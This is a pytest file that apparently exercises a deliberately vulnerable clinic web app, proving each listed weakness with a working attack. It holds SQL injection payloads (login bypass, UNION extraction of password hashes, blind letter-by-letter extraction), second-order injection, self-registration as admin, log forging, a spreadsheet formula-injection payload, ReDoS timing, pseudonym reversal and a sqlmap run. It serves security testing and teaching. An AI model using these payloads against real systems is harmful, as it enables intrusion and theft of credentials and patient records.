"""The Clinic as shipped gives away its users and patients: every attack here succeeds over HTTP."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import shutil
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from helpers import clinic
from helpers.clinic import Clinic
from helpers.clinic.database import fingerprint

Test = Callable[..., None]
BROKEN: set[int] = set()  # the weaknesses that a test here proves


def breaks(*rows: tuple[str, str]) -> Callable[[Test], Test]:
    """Say which weaknesses a test proves: where, and words out of what is wrong."""
    for where, words in rows:
        found = [w.number for w in clinic.WEAKNESSES if w.where == where and words in w.what]
        assert len(found) == 1, (where, words, found)
        BROKEN.update(found)
    return lambda test: test


@pytest.fixture(scope="module")
def c() -> Iterator[Clinic]:
    with clinic.start() as running:
        yield running


@breaks(("POST /login", "OR 1=1"))
def test_login_bypass(c: Clinic) -> None:
    for username, role in (("' OR 1=1 --", "doctor"), ("root' --", "admin")):
        answer = c.post("/login", json={"username": username, "password": "?"})
        assert (answer.status_code, answer.json()["role"]) == (200, role)
        bearer = {"Authorization": f"Bearer {answer.json()['token']}"}
        assert c.get("/patients/P-000101", headers=bearer).json()["insurance"]


@breaks(
    ("POST /login", "answered differently"),
    ("POST /login", "any number of guesses"),
    ("POST /login", "username and password to the log"),
    ("POST /login", "line break"),
    ("POST /login", "neither Secure"),
)
def test_login_gives_users_and_passwords_away(c: Clinic) -> None:
    def attempt(username: str, password: str) -> Any:
        return c.post("/login", json={"username": username, "password": password})

    assert attempt("ada", "my-mistyped-secret").text != attempt("eve", "x").text
    assert "my-mistyped-secret" in c.log()
    assert {attempt("ada", f"guess{n}").status_code for n in range(50)} == {401}
    forged = "2026-11-25T00:00:00.000+00:00 INFO login: root got a token"
    attempt(f"x\n{forged}", "x")
    assert any(line.startswith(forged) for line in c.log().splitlines())
    cookie = attempt("nia", clinic.account("nia").password).headers["Set-Cookie"].lower()
    assert cookie.startswith("session=") and "secure" not in cookie and "httponly" not in cookie


@breaks(
    ("GET /patients", "UNION"),
    ("GET /patients", "without logging in"),
    ("users", "unsalted MD5"),
    ("everywhere", "traceback"),
)
def test_union_reads_the_users_and_a_dictionary_their_passwords(c: Clinic) -> None:
    sql = "zz%' UNION SELECT username, password, role, email FROM users --"
    stolen = {row["code"]: row["name"] for row in c.get("/patients", params={"q": sql}).json()}
    assert stolen["root"] == hashlib.md5(b"toor-at-the-clinic").hexdigest()  # noqa: S324
    answer = c.get("/patients", params={"q": "O'Brien"})
    assert answer.status_code == 500 and answer.headers["Content-Type"].startswith("text/plain")
    assert "Traceback" in answer.text and "sqlite3.OperationalError" in answer.text
    assert "in: SELECT code, name, born, doctor FROM patients WHERE" in answer.text


@breaks(("GET /patients", "ORDER BY"), ("GET /patients/exists", "yes or no"))
def test_a_hash_is_read_letter_by_letter(c: Clinic) -> None:
    letter = "(SELECT substr(password, {}, 1) FROM users WHERE username = 'root') {} '{}'"
    codes = sorted(patient.code for patient in clinic.PATIENTS)

    def by_sort(question: str) -> bool:
        sort = f"(CASE WHEN {question} THEN code ELSE -CAST(substr(code, 3) AS INT) END)"
        order = [row["code"] for row in c.get("/patients", params={"sort": sort}).json()]
        return [code for code in order if code in codes] == codes

    def by_exists(question: str) -> bool:
        code = f"P-000101' AND {question} --"
        return bool(c.get("/patients/exists", params={"code": code}).json()["exists"])

    truth = fingerprint(clinic.account("root").password)[:4]
    for ask in (by_sort, by_exists):
        found = ""
        for place in range(1, 5):
            low, high = 0, 15
            while low < high:
                middle = (low + high) // 2
                if ask(letter.format(place, "<=", f"{middle:x}")):
                    high = middle
                else:
                    low = middle + 1
            found += f"{low:x}"
        assert found == truth


@pytest.mark.skipif(not shutil.which("sqlmap"), reason="there is no sqlmap on this machine")
def test_sqlmap_finds_the_search(tmp_path: Path) -> None:
    env = os.environ | {"TMPDIR": str(tmp_path)}
    with clinic.start() as c:
        command = ["sqlmap", "-u", f"{c.url}/patients?q=", "--batch", "--level=1", "--risk=1"]
        command += ["--technique=BEU", "--flush-session", f"--output-dir={tmp_path}"]
        done = subprocess.run(command, capture_output=True, text=True, timeout=100, env=env)
    # by which technique differs between its versions
    assert "Parameter: q (GET)" in done.stdout, done.stdout[-2000:]
    assert "back-end DBMS: SQLite" in done.stdout


@breaks(("POST /register", "role"), ("POST /password", "second order"))
def test_register_as_administrator_and_change_roots_password(c: Clinic) -> None:
    account = {"username": "mallory", "password": "m", "role": "admin"}
    assert c.post("/register", json=account).json()["role"] == "admin"
    with clinic.start() as other:
        made = other.post("/register", json={"username": "root' --", "password": "m"})
        assert made.status_code == 201
        bearer = {"Authorization": f"Bearer {made.json()['token']}"}
        assert other.post("/password", json={"password": "mine"}, headers=bearer).ok
        assert other.login("root", "mine")
        assert other.login("ada")


@breaks(
    ("GET /patients/CODE", "any logged-in user"),
    ("GET /patients.csv", "any logged-in user"),
    ("GET /patients.csv", "formulas"),
    ("POST /patients", "doctor"),
)
def test_a_nurse_reads_all_and_plants_a_formula(c: Clinic) -> None:
    nia = c.session("nia")
    for patient in clinic.PATIENTS:
        record = nia.get(f"{c.url}/patients/{patient.code}", timeout=10).json()
        assert record["insurance"] == patient.insurance
    formula = '=HYPERLINK("http://127.0.0.1/?"&F2)'
    new = {"code": "P-000900", "name": "Eve", "email": formula, "doctor": "ben"}
    assert nia.post(f"{c.url}/patients", json=new, timeout=10).status_code == 201
    table = list(csv.DictReader(io.StringIO(nia.get(f"{c.url}/patients.csv", timeout=10).text)))
    assert [(r["email"], r["doctor"]) for r in table if r["name"] == "Eve"] == [(formula, "ben")]
    assert {p.insurance for p in clinic.PATIENTS} <= {row["insurance"] for row in table}


@breaks(("POST /patients", "line break"), ("POST /patients", "doubles"))
def test_codes_that_are_none_and_a_name_that_stalls(c: Clinic) -> None:
    ada = c.session("ada")

    def add(**data: str) -> int:
        return ada.post(f"{c.url}/patients", json=data, timeout=30).status_code

    assert add(code="P-000901\n", name="Eve") == 201
    assert add(code="P-٠٠٠٩٠١", name="Eve") == 201  # Arabic-Indic digits

    def seconds(letters: int) -> float:  # of computing: other programs do not count
        started = time.process_time()
        assert add(code="P-000902", name="a" * letters + "!") == 400
        return time.process_time() - started

    short = min(seconds(18) for _ in range(3))
    assert seconds(22) > 4 * short  # four letters more: sixteen times as long


@breaks(("GET /research.csv", "SHA-256"))
def test_pseudonyms_are_reversed_by_counting(c: Clinic) -> None:
    shown = dict(list(csv.reader(io.StringIO(c.get("/research.csv").text)))[1:])
    codes = (f"P-{number:06d}" for number in range(1000))
    names = {hashlib.sha256(code.encode()).hexdigest(): code for code in codes}
    found = {names[pseudonym]: ill for pseudonym, ill in shown.items() if pseudonym in names}
    assert all(found[patient.code] == patient.diagnosis for patient in clinic.PATIENTS)
